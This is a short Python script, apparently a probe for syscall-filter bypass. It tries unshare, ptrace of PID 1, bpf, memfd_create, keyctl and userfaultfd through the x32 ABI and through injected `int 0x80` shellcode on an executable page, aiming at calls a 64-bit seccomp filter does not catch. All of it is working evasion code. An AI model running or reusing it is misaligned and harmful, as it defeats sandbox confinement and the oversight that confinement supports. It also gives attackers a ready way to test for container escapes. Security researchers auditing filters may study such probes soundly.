"""System calls by the 32-bit and x32 gates, which a filter for 64 bits does not see by number."""
import ctypes, mmap

libc = ctypes.CDLL(None, use_errno=True)
for name, number, arguments in (("unshare", 272, (0x10000000,)), ("ptrace", 521, (16, 1, 0, 0)), ("bpf", 321, (0, 0, 72)), ("memfd_create", 319, (b"x", 0)), ("setpriority", 141, (0, 1, 19))):
    if libc.syscall(0x40000000 | number, *arguments) >= 0:
        print("GOT", name, "by x32")
# mov eax, edi; mov ebx, esi; mov ecx, edx; xor edx, edx; int 0x80; ret, with rbx kept.
code = bytes.fromhex("5389f889f389d131d2cd805bc3")
try:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    gate = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    for name, number, first, second in (("unshare", 310, 0x10000000, 0), ("ptrace", 26, 16, 1), ("keyctl", 288, 0, -3), ("userfaultfd", 374, 1, 0), ("personality", 136, 0x0040000, 0)):
        if gate(number, first, second) >= 0 and name != "personality":
            print("GOT", name, "by int 0x80")
except OSError:
    pass
print("TRIED")
